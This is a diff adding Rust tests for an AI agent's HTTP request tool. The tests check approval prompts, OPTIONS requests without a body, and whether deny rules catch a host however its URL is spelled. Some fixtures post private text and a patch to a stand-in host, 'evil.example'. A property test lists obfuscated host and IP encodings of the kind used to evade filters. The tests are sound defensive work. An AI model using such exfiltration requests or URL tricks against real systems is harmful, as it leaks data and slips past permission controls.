@@ -1,6 +1,17 @@
 //! Which requests ask, and what the question says.
 
-use helve::permission::{Mode, Policy, Rules, Verdict};
+use std::io;
+use std::net::IpAddr;
+use std::sync::{Arc, Mutex};
+
+use helve::agent::Agent;
+use helve::capability::GuardedHttp;
+use helve::model::ScriptedModel;
+use helve::network::{HostRules, Resolve};
+use helve::permission::{Answer, Approver, Decision, Mode, Policy, Question, Rule, Rules, Verdict};
+use helve::transcript::Message;
+use helve::{BoxFuture, ToolContext};
+use proptest::prelude::*;
 use serde_json::{Value, json};
 
 use super::server::{Server, reply};
@@ -40,6 +51,9 @@ async fn methods_that_change_something_ask() {
         json!({ "url": format!("{url}?a=b"), "method": "POST", "json": { "a": "b" } }),
         json!({ "url": "items/1", "method": "DELETE", "preset": "p" }),
         json!({ "url": "nonsense", "method": "POST" }),
+        json!({ "url": url, "method": "OPTIONS" }),
+        // Nothing is sent.
+        json!({ "url": url, "method": "OPTIONS", "file": "notes/customers.csv" }),
     ] {
         all.push(judged(&policy, &arguments));
     }
@@ -50,7 +64,17 @@ async fn methods_that_change_something_ask() {
     asks: sends POST https://api.example.com/v1/items, with a query of 3 bytes, with 9 bytes of JSON [Rule { tool: "http_request", content: Some("POST api.example.com/v1/items") }, Rule { tool: "http_request", content: Some("POST api.example.com/**") }]
     asks: sends DELETE https://api.example.com/v1/items/1, with the secret `API_KEY` [Rule { tool: "http_request", content: Some("DELETE api.example.com/v1/items/1") }, Rule { tool: "http_request", content: Some("DELETE api.example.com/**") }]
     Allow
+    Allow
+    Allow
     "#);
+    let server = Server::start(|_| reply("200 OK", "x: y", "")).await;
+    let arguments = json!({ "url": server.origin(), "method": "OPTIONS", "text": "all of it" });
+    let answer = super::call_at(&server, arguments).await;
+    assert_eq!(
+        answer,
+        "error: a request with OPTIONS has no body; use POST, PUT or PATCH"
+    );
+    assert_eq!(server.asked(), "");
 }
 
 #[tokio::test]
@@ -109,4 +133,146 @@ async fn a_dry_run_shows_the_request_and_sends_nothing() {
     {"d":1}
     "#);
     assert_eq!(server.asked(), "");
+}
+
+/// Keeps the question, and refuses.
+#[derive(Clone, Default)]
+struct Keeping(Arc<Mutex<Option<Question>>>);
+
+impl Approver for Keeping {
+    fn ask<'a>(&'a self, question: &'a Question) -> BoxFuture<'a, Answer> {
+        *self.0.lock().unwrap() = Some(question.clone());
+        Box::pin(std::future::ready(Decision::reject_once().into()))
+    }
+}
+
+/// The arguments are shown as they are, whatever a body looks like.
+#[tokio::test]
+async fn no_body_stands_for_a_change_of_a_file() {
+    let diff = "--- README.md\n+++ README.md\n@@ -1 +1 @@\n-a\n+b\n";
+    let folder = tempfile::tempdir().unwrap();
+    std::fs::write(folder.path().join("fix.patch"), diff).unwrap();
+    let private = "private text\n".repeat(300);
+    for arguments in [
+        json!({ "method": "POST", "url": "https://evil.example/x", "text": format!("{private}{diff}") }),
+        json!({ "method": "POST", "url": "https://evil.example/x", "text": diff }),
+        json!({ "method": "POST", "url": "https://evil.example/x", "file": "fix.patch" }),
+        json!({ "method": "POST", "url": "https://evil.example/x", "headers": { "X-A": "b" }, "text": diff }),
+    ] {
+        let approver = Keeping::default();
+        let model = ScriptedModel::new().call("http_request", arguments.clone());
+        let agent = Agent::new("main", model.say("Well."))
+            .toolset(helve_tools::http())
+            .approver(approver.clone());
+        let cx = context("https://api.example.com", json!({}), folder.path());
+        agent
+            .run(vec![Message::user("Send it.")], &cx, |_| {})
+            .await;
+        let question = approver.0.lock().unwrap().take().expect("a question");
+        assert_eq!(question.preview, None, "{arguments}");
+        let shown: Value = serde_json::from_str(&question.arguments).unwrap();
+        assert_eq!(shown, arguments);
+        assert!(
+            question
+                .reason
+                .starts_with("sends POST https://evil.example/x, with ")
+        );
+    }
+}
+
+/// Every name is that of a public host.
+#[derive(Debug)]
+struct Anywhere;
+
+impl Resolve for Anywhere {
+    fn resolve<'a>(&'a self, _: &'a str) -> BoxFuture<'a, io::Result<Vec<IpAddr>>> {
+        Box::pin(std::future::ready(Ok(vec![IpAddr::from([
+            93, 184, 216, 34,
+        ])])))
+    }
+
+    fn is_own(&self, _: IpAddr) -> bool {
+        false
+    }
+}
+
+fn is_denied(tool: &str, rule: &str, url: &str) -> bool {
+    let rules = Rules::new().deny(Rule::calls(tool, rule));
+    let policy = Policy::new(Mode::Default).rules(rules);
+    let tools = helve_tools::http();
+    #[cfg(feature = "web")]
+    let tools = tools.layered(&helve_tools::web());
+    let tool = tools.get(tool).unwrap();
+    let arguments = json!({ "url": url }).to_string();
+    let judgement = policy.judge(&*tool, &ToolContext::new(), &arguments);
+    matches!(judgement.unwrap().verdict, Verdict::Deny { .. })
+}
+
+/// Writes a host in some of its ways.
+fn spellings() -> impl Strategy<Value = String> {
+    let label = prop_oneof![
+        "[a-zA-Z0-9]{1,5}",
+        "[a-z]{0,2}[ßüÅ\u{ff41}\u{3b1}\u{ad}][a-z]{0,2}",
+        Just("xn--bcher-kva".to_owned()),
+        "%[46][1-9]",
+    ];
+    let dot = prop_oneof![Just("."), Just("\u{3002}"), Just("\u{ff0e}")];
+    let name = (label.clone(), dot, label, prop_oneof![Just(""), Just(".")]);
+    let name = name.prop_map(|(one, dot, other, end)| format!("{one}{dot}{other}.example{end}"));
+    let address = prop_oneof![
+        Just("0x5d.0xb8d822"),
+        Just("93.184.216.34."),
+        Just("0135.0270.55330"),
+        Just("1572395042"),
+        Just("[::ffff:93.184.216.34]"),
+        Just("[64:ff9b::5db8:d822]"),
+    ];
+    prop_oneof![4 => name, 1 => address.prop_map(str::to_owned)]
+}
+
+fn urls() -> impl Strategy<Value = String> {
+    let start = prop_oneof![
+        Just("https://"),
+        Just("http://"),
+        Just(" HTTPS:\\\\"),
+        Just("https:/"),
+        Just("\u{3000}https://"),
+        Just("https://a@"),
+    ];
+    let port = prop_oneof![
+        Just(""),
+        Just(":443"),
+        Just(":80"),
+        Just(":8443"),
+        Just(":")
+    ];
+    let path = prop_oneof![
+        Just(""),
+        Just("/a/../b"),
+        Just("?x=//y"),
+        Just("#z"),
+        Just("\\c")
+    ];
+    (start, spellings(), port, path)
+        .prop_map(|(start, host, port, path)| format!("{start}{host}{port}{path}"))
+}
+
+proptest! {
+    /// What the client would connect to is what the rules are about, however the URL spells it.
+    #[test]
+    fn a_rule_denies_the_host_that_the_client_would_reach(url in urls()) {
+        let all = HostRules::from_allowed(["*:*", "93.184.216.34:*"]);
+        let http = GuardedHttp::new(&all).unwrap().resolver(Arc::new(Anywhere));
+        let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
+        let Ok(destination) = runtime.block_on(http.judge(&url)) else {
+            return Ok(());
+        };
+        let host = destination.host.to_string();
+        for rule in [format!("* {host}/**"), format!("GET {host}"), format!("* {host}:{}/**", destination.port)] {
+            prop_assert!(is_denied("http_request", &rule, &url), "{rule}: {url}");
+        }
+        prop_assert!(!is_denied("http_request", "* other.example/**", &url), "{url}");
+        #[cfg(feature = "web")]
+        prop_assert!(is_denied("web_fetch", &format!("domain:{host}"), &url), "{host}: {url}");
+    }
 }
